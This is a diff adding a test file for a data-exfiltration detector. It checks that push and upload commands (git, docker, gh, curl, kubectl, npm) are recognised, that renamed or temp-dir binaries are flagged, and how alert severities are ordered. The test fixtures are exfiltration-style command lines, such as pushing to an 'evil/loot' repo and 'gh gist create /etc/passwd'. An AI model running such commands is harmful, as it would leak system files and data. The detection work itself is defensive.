@@ -1,0 +1,211 @@
+import { describe, expect, it } from 'vitest';
+import { correlatorConfigSchema } from '../../../src/correlate/config.js';
+import { DestinationClassifier } from '../../../src/correlate/destinations.js';
+import { imageRegistryHost, parseArgv, scpLikeHost, tokenize, urlHost } from '../../../src/rules/argv.js';
+import { pushTools, RULE_IDS, recognizeProcess, rules } from '../../../src/rules/index.js';
+
+const classifier = new DestinationClassifier(correlatorConfigSchema.parse({}).destinations, 100);
+const uploadTarget = (host: string, path: string) => classifier.isUploadTarget(host, path);
+
+/** A binary the entry answers to (its first plain name, or a typical one for `*` and prefix entries). */
+function binaryFor(binaries: readonly string[], usual?: readonly string[]): string {
+  const plain = binaries.find((b) => !b.includes('*'));
+  if (plain) return `/usr/bin/${plain}`;
+  if (usual?.[0]) return `/usr/bin/${usual[0]}`;
+  return `/usr/bin/${binaries[0]!.replace('*', '3')}`;
+}
+
+describe('push-tool table', () => {
+  for (const spec of pushTools) {
+    const binary = binaryFor(spec.binaries, spec.usualBinaries);
+    for (const args of spec.examples.push) {
+      it(`${spec.tool}: \`${binary.split('/').pop()} ${args.slice(0, 60)}\` is a push`, () => {
+        const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
+        expect(r?.kind).toBe('push');
+        if (r?.kind === 'push') expect(r.renamed).toBe(false);
+      });
+    }
+    for (const args of spec.examples.notPush) {
+      it(`${spec.tool}: \`${binary.split('/').pop()} ${args.slice(0, 60)}\` is not a push`, () => {
+        const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
+        expect(r?.kind).not.toBe('push');
+      });
+    }
+  }
+
+  it('every entry declares examples (a tool is a table entry plus its scenarios)', () => {
+    for (const spec of pushTools) expect(spec.examples.push.length + spec.examples.notPush.length).toBeGreaterThan(0);
+  });
+
+  it('finds destination and remote from argv for each family', () => {
+    const cases: Array<[string, string, string | null, string | null]> = [
+      ['/usr/bin/git', 'push https://github.com/evil/loot.git main', 'github.com', 'https://github.com/evil/loot.git'],
+      ['/usr/bin/git', 'push git@gitlab.com:evil/loot.git', 'gitlab.com', 'git@gitlab.com:evil/loot.git'],
+      ['/usr/bin/git', 'push origin main', null, 'origin'],
+      ['/usr/bin/docker', 'push alpine:3', 'registry-1.docker.io', 'alpine:3'],
+      ['/usr/bin/podman', 'push img docker://quay.io/evil/x:1', 'quay.io', 'docker://quay.io/evil/x:1'],
+      [
+        '/usr/bin/crane',
+        'append -f d.tar -b alpine -t 123.dkr.ecr.us-east-1.amazonaws.com/x:1',
+        '123.dkr.ecr.us-east-1.amazonaws.com',
+        '123.dkr.ecr.us-east-1.amazonaws.com/x:1',
+      ],
+      [
+        '/usr/bin/helm',
+        'push c.tgz oci://europe-docker.pkg.dev/p/r',
+        'europe-docker.pkg.dev',
+        'oci://europe-docker.pkg.dev/p/r',
+      ],
+      ['/usr/bin/gh', 'gist create /etc/passwd', 'api.github.com', null],
+      [
+        '/usr/bin/gh',
+        'api --hostname ghe.corp.example -X POST repos/a/b/issues',
+        'ghe.corp.example',
+        'repos/a/b/issues',
+      ],
+      [
+        '/usr/bin/ssh',
+        'git@bitbucket.org "git-receive-pack \'evil/loot.git\'"',
+        'bitbucket.org',
+        'git@bitbucket.org:evil/loot.git',
+      ],
+      [
+        '/usr/bin/curl',
+        '-T x https://uploads.github.com/repos/e/l/releases/1/assets',
+        'uploads.github.com',
+        'https://uploads.github.com/repos/e/l/releases/1/assets',
+      ],
+      ['/usr/bin/kubectl', 'cp prod/db-0:/data ./d', null, 'prod/db-0:/data'],
+      ['/kaniko/executor', '--context . --destination gcr.io/acme/app:1', 'gcr.io', 'gcr.io/acme/app:1'],
+      ['/usr/bin/npm', 'publish --registry https://npm.pkg.github.com', 'npm.pkg.github.com', null],
+    ];
+    for (const [binary, args, host, remote] of cases) {
+      const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
+      expect(r?.kind, `${binary} ${args}`).toBe('push');
+      if (r?.kind !== 'push') continue;
+      expect(r.destinationHost, `${binary} ${args}`).toBe(host);
+      expect(r.remote, `${binary} ${args}`).toBe(remote);
+    }
+  });
+
+  it('recognises renamed git by its plumbing and its helpers, and tools run from temp dirs', () => {
+    const sendPack = recognizeProcess(
+      {
+        binary: '/tmp/.x/updater',
+        args: 'send-pack --stateless-rpc https://github.com/e/l.git',
+        parentBinary: null,
+        parentArgs: null,
+      },
+      uploadTarget,
+    );
+    expect(sendPack).toMatchObject({ kind: 'push', tool: 'git', renamed: true, destinationHost: 'github.com' });
+    const helper = recognizeProcess(
+      {
+        binary: '/usr/lib/git-core/git-remote-https',
+        args: 'origin https://github.com/e/l.git',
+        parentBinary: '/opt/sync',
+        parentArgs: 'push origin main',
+      },
+      uploadTarget,
+    );
+    expect(helper).toMatchObject({ kind: 'push', tool: 'git', renamed: true, destinationHost: 'github.com' });
+    const fetchHelper = recognizeProcess(
+      {
+        binary: '/usr/lib/git-core/git-remote-https',
+        args: 'origin https://github.com/e/l.git',
+        parentBinary: '/usr/bin/git',
+        parentArgs: 'fetch origin',
+      },
+      uploadTarget,
+    );
+    expect(fetchHelper).toBeNull();
+    const renamedSsh = recognizeProcess(
+      { binary: '/dev/shm/s', args: "git@github.com git-receive-pack 'e/l.git'", parentBinary: null, parentArgs: null },
+      uploadTarget,
+    );
+    expect(renamedSsh).toMatchObject({ kind: 'push', renamed: true, unexpectedLocation: true });
+    const tmpDocker = recognizeProcess(
+      { binary: '/tmp/docker', args: 'push ghcr.io/e/x', parentBinary: null, parentArgs: null },
+      uploadTarget,
+    );
+    expect(tmpDocker).toMatchObject({ kind: 'push', tool: 'docker', renamed: false, unexpectedLocation: true });
+  });
+
+  it('the pod side of kubectl cp: tar to stdout under the runtime', () => {
+    const view = { binary: '/bin/tar', args: 'cf - /var/lib/data', parentBinary: '/usr/bin/runc', parentArgs: 'init' };
+    expect(recognizeProcess(view, uploadTarget)).toMatchObject({
+      kind: 'push',
+      tool: 'kubectl',
+      remote: '/var/lib/data',
+    });
+    expect(recognizeProcess({ ...view, parentBinary: '/bin/bash' }, uploadTarget)).toBeNull();
+  });
+
+  it('marks downloads so their lineage never becomes a push by volume', () => {
+    for (const [binary, args] of [
+      ['/usr/bin/git', 'clone https://github.com/torvalds/linux.git'],
+      ['/usr/bin/docker', 'pull ubuntu'],
+      ['/usr/bin/skopeo', 'inspect docker://quay.io/a/b'],
+      ['/usr/bin/crane', 'pull ghcr.io/a/b /tmp/b.tar'],
+    ] as const) {
+      expect(recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget)).toEqual({
+        kind: 'download',
+      });
+    }
+  });
+});
+
+describe('argv helpers', () => {
+  it('tokenizes quoted arguments', () => {
+    expect(tokenize(`-c "a b" 'c d' e`)).toEqual(['-c', 'a b', 'c d', 'e']);
+    expect(tokenize(null)).toEqual([]);
+  });
+  it('parses combined curl short flags and attached values', () => {
+    const p = parseArgv(['-sSXPUT', '-d@/tmp/x', 'https://h/p'], { valueShortLetters: 'dX' });
+    expect(p.flags).toEqual([
+      { flag: '-s', value: null },
+      { flag: '-S', value: null },
+      { flag: '-X', value: 'PUT' },
+      { flag: '-d', value: '@/tmp/x' },
+    ]);
+    expect(p.positionals).toEqual(['https://h/p']);
+  });
+  it('extracts hosts from URLs, scp-like remotes and image references', () => {
+    expect(urlHost('https://u:p@GitHub.com:443/a')).toEqual({ host: 'github.com', path: '/a' });
+    expect(scpLikeHost('git@github.com:a/b.git')).toBe('github.com');
+    expect(imageRegistryHost('ghcr.io/a/b:1')).toBe('ghcr.io');
+    expect(imageRegistryHost('library/alpine')).toBe('registry-1.docker.io');
+    expect(imageRegistryHost('localhost:5000/x')).toBe('localhost');
+    expect(imageRegistryHost('dir:/tmp/x')).toBeNull();
+  });
+});
+
+describe('rules registry', () => {
+  const t = { bulkReadBytes: 100, criticalBulkFactor: 4, moderateReadBytes: 10, moderateReadFiles: 5 };
+  const facts = { readBytes: 0, readFiles: 0, sensitiveFiles: 0, archiveStaging: false, renamedOrUnexpected: false };
+  const pick = (f: Partial<typeof facts>) => {
+    const merged = { ...facts, ...f };
+    const rule = rules.find((r) => r.matches(merged, t))!;
+    return [rule.id, rule.severity(merged, t)];
+  };
+  it('keeps a small set of kebab-case ids, the catch-all last', () => {
+    expect(RULE_IDS).toEqual([
+      'bulk-read-then-push',
+      'sensitive-read-then-push',
+      'push-after-moderate-reads',
+      'renamed-binary-push',
+      'push-without-reads',
+    ]);
+    for (const id of RULE_IDS) expect(id).toMatch(/^[a-z]+(-[a-z]+)*$/);
+  });
+  it('orders severities as documented', () => {
+    expect(pick({ readBytes: 100 })).toEqual(['bulk-read-then-push', 'high']);
+    expect(pick({ readBytes: 400 })).toEqual(['bulk-read-then-push', 'critical']);
+    expect(pick({ readBytes: 100, sensitiveFiles: 1 })).toEqual(['bulk-read-then-push', 'critical']);
+    expect(pick({ sensitiveFiles: 2, readBytes: 50 })).toEqual(['sensitive-read-then-push', 'high']);
+    expect(pick({ readFiles: 5 })).toEqual(['push-after-moderate-reads', 'medium']);
+    expect(pick({ archiveStaging: true })).toEqual(['push-after-moderate-reads', 'medium']);
+    expect(pick({ renamedOrUnexpected: true })).toEqual(['renamed-binary-push', 'medium']);
+    expect(pick({ readBytes: 9 })).toEqual(['push-without-reads', 'low']);
+  });
+});
